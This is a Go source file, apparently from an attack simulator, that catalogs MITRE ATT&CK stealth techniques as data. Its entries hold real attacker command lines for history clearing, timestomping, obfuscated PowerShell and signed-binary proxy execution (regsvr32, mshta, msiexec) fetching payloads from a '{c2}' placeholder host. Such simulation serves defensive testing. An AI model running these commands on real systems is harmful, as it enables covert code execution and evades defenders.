package technique

import (
	"hemostat/sim/world"
)

// stealth are techniques of the tactic Stealth (TA0005).
var stealth = []*Technique{
	{
		ID: "T1070.003", Name: "Indicator Removal: Clear Command History", Tactic: "stealth", Effect: "what was typed is gone",
		Takes: quick, Success: 0.99,
		script: &script{at: anywhere, variants: []variant{
			by("delete the file", either(powershell(`Remove-Item (Get-PSReadlineOption).HistorySavePath`), sh(world.RM, "rm /root/.bash_history"))),
			by("switch off", either(powershell(`Set-PSReadlineOption -HistorySaveStyle SaveNothing`), sh(world.Ln, "ln -sf /dev/null /root/.bash_history"))),
		}},
	},
	{
		ID: "T1070.004", Name: "Indicator Removal: File Deletion", Tactic: "stealth", Effect: "the attacker's files are gone",
		Takes: quick, Success: 0.99,
		script: &script{at: anywhere, variants: []variant{
			by("sdelete", either(move{"windows/sysmon 1", cmd(sdelete, `sdelete64.exe -accepteula -p 3 C:\Users\Public\agent.exe`).do}, sh(world.Shred, "shred -u -z /tmp/.agent"))),
			by("del after ping", either(cmd(world.Cmd, `cmd.exe /c ping 127.0.0.1 -n 5 > nul & del /f /q "C:\Users\Public\agent.exe"`), sh(world.RM, "rm -f /tmp/.agent"))),
		}},
	},
	{
		ID: "T1070.006", Name: "Indicator Removal: Timestomp", Tactic: "stealth", Effect: "the attacker's files look old",
		Takes: quick, Success: 0.98,
		script: &script{at: anywhere, variants: []variant{
			by("set the time", either(powershell(`(Get-Item "C:\Users\Public\agent.exe").CreationTime = "01/01/2019 12:00:00"; (Get-Item "C:\Users\Public\agent.exe").LastWriteTime = "01/01/2019 12:00:00"`), sh(world.Touch, "touch -t 201901010000 /tmp/.agent"))),
			by("copy the time", either(powershell(`$o=Get-Item C:\Windows\System32\cmd.exe; $f=Get-Item C:\Users\Public\agent.exe; $f.LastAccessTime=$o.LastAccessTime`), sh(world.Touch, "touch -acmr /bin/sh /tmp/.agent"))),
		}},
	},
	{
		ID: "T1027", Name: "Obfuscated Files or Information", Tactic: "stealth", Effect: "a script ran that nobody can read at a glance",
		Takes: quick, Success: 0.97,
		script: &script{at: onWindows, variants: []variant{
			by("base64 and gzip", cmd(world.PowerShell, `powershell.exe -noP -sta -w 1 -enc `+encoded(`$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String("H4sIAAAAAAAA"));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd();`)), block(`$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String("H4sIAAAAAAAA"));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd();`)),
			by("string pieces", powershell(`& ((gv '*mdr*').Name[3,11,2]-join'') ("{1}{0}" -f 'ost','Write-H')`)),
		}},
	},
	{
		ID: "T1140", Name: "Deobfuscate/Decode Files or Information", Tactic: "stealth", Effect: "a packed tool is ready to run",
		Takes: quick, Success: 0.98,
		script: &script{at: anywhere, variants: []variant{
			by("decode", either(cmd(world.Certutil, `certutil.exe -decode C:\Users\Public\a.txt C:\Users\Public\agent.exe`), sh(world.Bash, `bash -c echo aGVsbG8K | base64 -d | bash`)), written(`C:\Users\Public\agent.exe`)),
			by("in memory", either(powershell(`[Reflection.Assembly]::Load([Convert]::FromBase64String((Get-Content C:\Users\Public\a.txt)))`), sh(world.Base64, "base64 -d /tmp/.a"))),
		}},
	},
	{
		ID: "T1036.003", Name: "Masquerading: Rename Legitimate Utilities", Tactic: "stealth", Effect: "a system tool runs under another name",
		Takes: quick, Success: 0.98,
		script: &script{at: onWindows, variants: []variant{
			by("powershell as another", cmd(world.Cmd, `cmd.exe /c copy C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe C:\Users\Public\taskhostw.exe`), cmd(world.PowerShell.Renamed(`C:\Users\Public\taskhostw.exe`), `C:\Users\Public\taskhostw.exe -w hidden -c whoami`)),
			by("rundll32 as another", cmd(world.Rundll32.Renamed(`C:\Users\Public\audiodg.exe`), `C:\Users\Public\audiodg.exe C:\Users\Public\a.dll,Start`)),
		}},
	},
	{
		ID: "T1036.005", Name: "Masquerading: Match Legitimate Resource Name or Location", Tactic: "stealth", Effect: "the attacker's program bears a trusted name",
		Takes: quick, Success: 0.98,
		script: &script{at: onWindows, variants: []variant{
			by("svchost elsewhere", cmd(world.Dropped(`C:\Users\Public\svchost.exe`, &plain), `C:\Users\Public\svchost.exe`)),
			by("system folder look-alike", cmd(world.Dropped(`C:\Windows \System32\winlogon.exe`, &plain), `"C:\Windows \System32\winlogon.exe"`)),
		}},
	},
	{
		ID: "T1127.001", Name: "Trusted Developer Utilities Proxy Execution: MSBuild", Tactic: "stealth", Effect: "code ran inside a signed build tool",
		Takes: quick, Success: 0.96,
		script: &script{at: onWindows, variants: []variant{
			by("project file", under(world.Winword, world.MSBuild, `C:\Windows\Microsoft.NET\Framework64\v4.0.30319\MSBuild.exe C:\Users\Public\build.xml`), connect("", 443, "ssl", 2e3, 400e3)),
			by("own folder", cmd(world.MSBuild, `MSBuild.exe C:\Users\{user}\AppData\Local\Temp\b.csproj`), connect("", 443, "ssl", 2e3, 400e3)),
			by("among the sources", cmd(world.MSBuild, `MSBuild.exe C:\Users\{user}\source\repos\Tools\Tools.csproj /t:Build /v:m`), connect("", 443, "ssl", 2e3, 400e3)),
		}},
	},
	{
		ID: "T1202", Name: "Indirect Command Execution", Tactic: "stealth", Effect: "a program ran below an unsuspected parent",
		Takes: quick, Success: 0.98,
		script: &script{at: onWindows, variants: []variant{
			by("forfiles", cmd(world.Forfiles, `forfiles.exe /p c:\windows\system32 /m notepad.exe /c "cmd /c C:\Users\Public\agent.exe"`), child(world.Cmd, `/c "C:\Users\Public\agent.exe"`)),
			by("pcalua", cmd(world.Pcalua, `pcalua.exe -a C:\Users\Public\agent.exe`)),
			by("conhost", cmd(world.Conhost, `conhost.exe --headless cmd.exe /c C:\Users\Public\agent.exe`), child(world.Cmd, `cmd.exe /c C:\Users\Public\agent.exe`)),
		}},
	},
	{
		ID: "T1218.003", Name: "System Binary Proxy Execution: CMSTP", Tactic: "stealth", Effect: "code ran inside a signed program",
		Takes: quick, Success: 0.95,
		script: &script{at: onWindows, variants: []variant{
			by("inf file", cmd(world.Cmstp, `cmstp.exe /s /ns C:\Users\{user}\AppData\Local\Temp\x.inf`), child(world.Cmd, `cmd.exe /c C:\Users\Public\agent.exe`)),
			by("automatic", cmd(world.Cmstp, `cmstp.exe /au C:\ProgramData\vpn.inf`)),
		}},
	},
	{
		ID: "T1218.004", Name: "System Binary Proxy Execution: InstallUtil", Tactic: "stealth", Effect: "code ran inside a signed program",
		Takes: quick, Success: 0.96,
		script: &script{at: onWindows, variants: []variant{
			by("no log", cmd(world.InstallUtil, `InstallUtil.exe /logfile= /LogToConsole=false /U C:\Users\Public\a.dll`)),
			by("from the web", cmd(world.InstallUtil, `InstallUtil.exe https://{c2}/a.dll`), connect("", 443, "ssl", 2e3, 300e3)),
		}},
	},
	{
		ID: "T1218.005", Name: "System Binary Proxy Execution: Mshta", Tactic: "stealth", Effect: "a script ran inside a signed program",
		Takes: quick, Success: 0.97,
		script: &script{at: onWindows, variants: []variant{
			by("inline script", cmd(world.Mshta, `mshta.exe vbscript:Close(Execute("GetObject(""script:https://{c2}/a.sct"")"))`), child(world.PowerShell, `powershell.exe -nop -w hidden -c IEX`), connect("", 443, "ssl", 2e3, 90e3)),
			by("from the web", cmd(world.Mshta, `mshta.exe http://{c2}/update.hta`), connect("", 80, "http", 2e3, 90e3)),
			by("kept page", cmd(world.Mshta, `mshta.exe "C:\Users\{user}\AppData\Local\Viewer\about.hta"`), connect("", 443, "ssl", 2e3, 90e3)),
		}},
	},
	{
		ID: "T1218.007", Name: "System Binary Proxy Execution: Msiexec", Tactic: "stealth", Effect: "a package of the attacker is installed",
		Takes: quick, Success: 0.96,
		script: &script{at: onWindows, variants: []variant{
			by("quiet from the web", cmd(world.Msiexec, `msiexec.exe /q /i http://{c2}/setup.msi`), connect("", 80, "http", 2e3, 2e6)),
			by("library", cmd(world.Msiexec, `msiexec.exe /y C:\Users\Public\a.dll`)),
		}},
	},
	{
		ID: "T1218.010", Name: "System Binary Proxy Execution: Regsvr32", Tactic: "stealth", Effect: "a script ran inside a signed program",
		Takes: quick, Success: 0.97,
		script: &script{at: onWindows, variants: []variant{
			by("squiblydoo", cmd(world.Regsvr32, `regsvr32.exe /s /u /i:http://{c2}/a.sct scrobj.dll`), connect("", 80, "http", 2e3, 20e3)),
			by("odd folder", cmd(world.Regsvr32, `regsvr32.exe /s C:\Users\{user}\AppData\Local\Temp\a.jpg`)),
			by("shell extension", cmd(world.Regsvr32, `regsvr32.exe /s "C:\Users\{user}\AppData\Local\Viewer\shellext.dll"`), load(`C:\Users\{user}\AppData\Local\Viewer\shellext.dll`)),
		}},
	},
	{
		ID: "T1218.011", Name: "System Binary Proxy Execution: Rundll32", Tactic: "stealth", Effect: "a library of the attacker ran inside a signed program",
		Takes: quick, Success: 0.97,
		script: &script{at: onWindows, variants: []variant{
			by("javascript", cmd(world.Rundll32, `rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write();GetObject("script:http://{c2}/a.sct")`)),
			by("ordinal", cmd(world.Rundll32, `rundll32.exe C:\Users\Public\a.dll,#1`)),
			by("named export", cmd(world.Rundll32, `rundll32.exe C:\ProgramData\Viewer\core.dll,DllRegisterServer`), load(`C:\ProgramData\Viewer\core.dll`)),
			by("program's folder", cmd(world.Rundll32, `rundll32.exe "C:\Users\{user}\AppData\Local\Viewer\viewcfg.dll",LoadSettings`), load(`C:\Users\{user}\AppData\Local\Viewer\viewcfg.dll`)),
		}},
	},
	{
		ID: "T1220", Name: "XSL Script Processing", Tactic: "stealth", Effect: "a script ran inside a signed program",
		Takes: quick, Success: 0.96,
		script: &script{at: onWindows, variants: []variant{
			by("from the web", cmd(world.Wmic, `wmic.exe os get /format:"https://{c2}/a.xsl"`), connect("", 443, "ssl", 2e3, 20e3)),
			by("local file", cmd(world.Wmic, `wmic process list /FORMAT:C:\Users\Public\a.xsl`)),
		}},
	},
	{
		ID: "T1564.001", Name: "Hide Artifacts: Hidden Files and Directories", Tactic: "stealth", Effect: "the attacker's files do not show",
		Takes: quick, Success: 0.99,
		script: &script{at: anywhere, variants: []variant{
			by("attributes", either(cmd(world.Attrib, `attrib.exe +s +h C:\Users\Public\agent.exe`), sh(world.CP, "cp /tmp/agent /var/tmp/.agent"))),
			by("dot folder", either(cmd(world.Attrib, `attrib.exe +h C:\ProgramData\Viewer`), sh(world.Bash, "bash -c mkdir /tmp/.X11-unix/.cache"))),
		}},
	},
	{
		ID: "T1564.003", Name: "Hide Artifacts: Hidden Window", Tactic: "stealth", Effect: "a script ran without a window",
		Takes: quick, Success: 0.99,
		script: &script{at: onWindows, variants: []variant{
			by("hidden powershell", powershellArgs(`-WindowStyle Hidden -ExecutionPolicy Bypass -File C:\Users\Public\a.ps1`), block(`powershell.exe -WindowStyle Hidden -File C:\Users\Public\a.ps1`)),
			by("headless browser", cmd(world.Chrome, `chrome.exe --headless --disable-gpu --dump-dom https://{c2}/a`), connect("", 443, "ssl", 2e3, 90e3)),
		}},
	},
	{
		ID: "T1564.004", Name: "Hide Artifacts: NTFS File Attributes", Tactic: "stealth", Effect: "a tool lies in an alternate data stream",
		Takes: quick, Success: 0.97,
		script: &script{at: onWindows, variants: []variant{
			by("type into a stream", cmd(world.Cmd, `cmd.exe /c type C:\Users\Public\a.exe > C:\Users\Public\readme.txt:a.exe`), stream(`C:\Users\Public\readme.txt:a.exe`)),
			by("Set-Content", powershell(`Set-Content -Path C:\Users\Public\readme.txt -Stream a -Value (Get-Content C:\Users\Public\a.ps1 -Raw)`), stream(`C:\Users\Public\readme.txt:a.ps1`)),
		}},
	},
	{
		ID: "T1574.001", Name: "Hijack Execution Flow: DLL", Tactic: "stealth", Effect: "a trusted program loads the attacker's library", Achieves: "persist",
		Takes: quick, Success: 0.93,
		script: &script{at: onWindows, then: settle(`C:\ProgramData\Viewer\version.dll`), variants: []variant{
			by("beside a signed program", cmd(world.Signed(`C:\ProgramData\Viewer\OneDriveUpdater.exe`, "Microsoft Corporation"), `C:\ProgramData\Viewer\OneDriveUpdater.exe`), load(`C:\ProgramData\Viewer\version.dll`)),
			by("into a system folder", file(`C:\Windows\System32\wbem\wbemcomn.dll`)),
		}},
	},
}
